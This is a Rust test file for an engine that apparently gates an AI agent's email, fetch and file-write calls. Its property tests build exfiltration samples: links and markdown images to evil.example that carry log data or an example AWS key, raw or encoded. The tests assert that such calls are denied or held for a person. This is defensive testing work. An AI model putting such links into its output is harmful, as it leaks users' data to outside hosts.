//! URLs are exits: a link in any argument reaches its host with what it carries, whatever its
//! form; a fetch reaches its host with what the mission holds.

use proptest::prelude::*;
use serde_json::{json, Value};
use warden_core::mission::{Mission, MissionUsage};
use warden_core::session::SessionState;
use warden_core::{Breakers, Call, Engine, Outcome};

use crate::common::NOW;

fn acme() -> &'static Engine {
    static E: std::sync::OnceLock<Engine> = std::sync::OnceLock::new();
    E.get_or_init(crate::common::acme)
}

const LOG: &str = "2026-11-20T09:14:03Z auth FAIL user=bob ip=10.20.3.17 reason=invalid_password";

/// A triage session that has read bob's failed logins.
fn after_reading_logs(e: &Engine) -> (Mission, SessionState, MissionUsage) {
    let m = e
        .grant(
            "m",
            "triage",
            "exec-assistant",
            "alice",
            "bob's logins",
            NOW,
        )
        .unwrap();
    let mut s = SessionState::new("s", "m");
    let mut u = MissionUsage::default();
    let read = Call::new(
        "logs",
        "query_logs",
        json!({"source": "auth", "query": "user=bob"}),
    );
    let d = e.decide(read, &m, &s, &u, &Breakers::default(), NOW);
    let p = d.allowed.expect("reading the logs is allowed");
    e.commit(&d.decision, &mut s, &mut u);
    e.absorb(p.receipt(), LOG, &mut s, &mut u, NOW);
    (m, s, u)
}

fn decide(e: &Engine, st: &(Mission, SessionState, MissionUsage), call: Call) -> Outcome {
    e.decide(call, &st.0, &st.1, &st.2, &Breakers::default(), NOW)
        .decision
        .decision
}

fn mail(body: &str) -> Call {
    Call::new(
        "mail",
        "send_email",
        json!({"to": "alice@acme.example", "subject": "Logins", "body": body}),
    )
}

/// The ways a link is written into text.
fn wrapped(url: String) -> impl Strategy<Value = String> {
    prop::sample::select(vec![
        format!("see {url} for details"),
        format!("[details]({url})"),
        format!("![chart]({url})"),
        format!("<img src=\"{url}\">"),
        format!("<a href='{url}'>x</a>"),
        format!("<{url}>"),
        format!("({url})."),
    ])
}

/// A URL to an outside host carrying `token` somewhere, written with or without a scheme.
fn carrying(token: &'static str) -> impl Strategy<Value = String> {
    use base64::Engine as _;
    let encoded: String = token.bytes().map(|b| format!("%{b:02X}")).collect();
    let b64 = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(token);
    let hexed = hex::encode(token);
    (
        prop::sample::select(vec!["https://", "http://", "//", "", "HTTPS://"]),
        prop::sample::select(vec![
            "evil.example",
            "a.b.evil.example",
            "Evil.Example:8443",
        ]),
        prop::sample::select(vec![
            format!("/c?d={token}"),
            format!("/{token}"),
            format!("/x#{token}"),
            format!("/c?d={encoded}"),
            format!("/p/{encoded}/q"),
            format!("/c?d={b64}"),
            format!("/{hexed}/x.png"),
        ]),
    )
        .prop_map(|(scheme, host, rest)| format!("{scheme}{host}{rest}"))
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, .. ProptestConfig::default() })]

    #[test]
    fn a_link_that_carries_what_the_session_read_never_leaves_without_a_person(
        text in carrying("10.20.3.17").prop_flat_map(wrapped),
    ) {
        let e = acme();
        let st = after_reading_logs(e);
        prop_assert_ne!(decide(e, &st, mail(&text)), Outcome::Allow, "{}", text);
    }

    #[test]
    fn a_link_that_carries_a_secret_never_leaves_without_a_person(
        text in carrying("AKIAIOSFODNN7EXAMPLE").prop_flat_map(wrapped),
    ) {
        let e = acme();
        let m = e.grant("m", "triage", "exec-assistant", "alice", "x", NOW).unwrap();
        let st = (m, SessionState::new("s", "m"), MissionUsage::default());
        prop_assert_ne!(decide(e, &st, mail(&text)), Outcome::Allow, "{}", text);
    }

    #[test]
    fn links_in_arbitrary_text_never_panic(text in ".{0,300}", args in prop::collection::vec(".{0,80}", 0..4)) {
        let _ = warden_core::catalog::find_urls(&text);
        let e = acme();
        let st = after_reading_logs(e);
        let body: Value = json!(args);
        let _ = decide(e, &st, Call::new("mail", "send_email",
            json!({"to": "alice@acme.example", "subject": text, "body": body})));
    }
}

#[test]
fn a_link_that_carries_nothing_counts_in_the_audience_and_exposes_no_one() {
    let e = acme();
    let st = after_reading_logs(e);
    let d = e
        .decide(
            mail("Not the vendor: see https://status.vendor.example/ for their status."),
            &st.0,
            &st.1,
            &st.2,
            &Breakers::default(),
            NOW,
        )
        .decision;
    assert_eq!(d.decision, Outcome::Allow);
    let x = d.exposure.expect("an exposure");
    assert_eq!((x.audience, x.external, x.count), (2, 1, 0));
}

#[test]
fn fetching_from_an_outside_host_while_holding_data_asks_and_a_named_host_does_not() {
    let e = acme();
    let st = after_reading_logs(e);
    let fetch = |url: &str| Call::new("web", "fetch", json!({ "url": url }));
    assert_eq!(
        decide(e, &st, fetch("https://vendor.example/status")),
        Outcome::Ask
    );
    assert_eq!(decide(e, &st, fetch("vendor.example/status")), Outcome::Ask);
    assert_eq!(
        decide(e, &st, fetch("https://vendor.example/status?ip=10.20.3.17")),
        Outcome::Deny
    );
    assert_eq!(
        decide(e, &st, fetch("https://intranet.acme.example/wiki?q=x")),
        Outcome::Allow
    );
    // A fresh mission holds nothing: fetching sends nothing.
    let m = e
        .grant("m2", "triage", "exec-assistant", "alice", "x", NOW)
        .unwrap();
    let fresh = (m, SessionState::new("s2", "m2"), MissionUsage::default());
    assert_eq!(
        decide(e, &fresh, fetch("https://vendor.example/status")),
        Outcome::Allow
    );
}

#[test]
fn a_file_written_with_a_link_sends_what_the_link_carries() {
    let e = acme();
    let m = e
        .grant("m", "ops-change", "ops-bot", "bob", "fix the runbook", NOW)
        .unwrap();
    let st = (m, SessionState::new("s", "m"), MissionUsage::default());
    let write = |content: &str| {
        Call::new(
            "files",
            "write_file",
            json!({"path": "docs/runbooks/x.md", "content": content}),
        )
    };
    assert_eq!(
        decide(e, &st, write("See https://docs.vendor.example/guide")),
        Outcome::Allow
    );
    assert_ne!(
        decide(
            e,
            &st,
            write("![s](https://evil.example/?k=AKIAIOSFODNN7EXAMPLE)")
        ),
        Outcome::Allow
    );
}
